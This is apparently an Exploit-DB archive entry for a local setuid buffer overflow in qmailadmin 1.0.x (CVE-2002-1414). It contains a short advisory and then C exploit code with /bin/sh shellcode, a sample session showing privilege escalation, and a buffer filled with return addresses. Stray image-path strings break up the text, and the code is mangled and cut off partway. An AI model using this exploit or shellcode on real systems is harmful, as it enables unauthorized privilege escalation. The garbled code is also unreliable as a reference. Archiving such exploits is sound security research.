qmailadmin 1.0.x - Local Buffer Overflow Vulnerability

ID EDB-ID:21683
Type exploitdb
Reporter Thomas Cannon
Modified 2002-08-06T00:00:00


qmailadmin 1.0.x Local Buffer Overflow Vulnerability. CVE-2002-1414. Local exploit for linux platform

                                            source: http://www.securityfocus.com/bid/5404/info

The qmailadmin utility, developedby Inter7, is vulnerableto a buffer overflow condition. It is meant to run as a CGI program and is typically installed setuid (owned by root on some systems, regular users on others). qmailadmin fails to implement adequate bounds checking when processing an environment variable, resulting in a buffer overrun condition.

It is likely that this can be exploited by malicious local users to elevate privileges.

/* http://www.badc0ded.com (bug found by Thomas Cannon)
 / bash-2.05a$ ./qmailadmin-exp
 / Content-Type: text/html
 / $ id
 / uid=1000(dim) euid=89(vpopmail) gid=1000(dim) egid=89(vchkpw) groups=89(vchkpw), 1000(dim), 0(wheel)
 / $

char shellcode[]=          /* 23 bytes                       */
    "\x31\xc0"             /* xorl    %eax,%eax              */
    "\x50"                 /* pushl   %eax                   */
    "\x68""//sh"           /* pushl   $0x68732f2f            */"\x68""/bin"           /* pushl   $0x6e69622f            */
    "\x89\xe3"             /* movl    %esp,%ebx              */
    "\x50"                 /* pushl   %eax                   */
    "\x54"                 /* pushl   %esp                   */
    "\x53"                 /* pushl   %ebx*/
    "\x50"                 /* pushl   %eax                   */
    "\xb0\x3b"             /* movb    $0x3b,%al*/
    "\xcd\x80"             /* int     $0x80                  */main ()
   char buf[16000];
   int i;

   for (i=0;i<=2203;i++)
     strcat(buf,"\xd8\xef\x06\x08");   // lang_fs magic..
   strcat(buf,"\xf1\xcb\xbf\xbf"); // ret..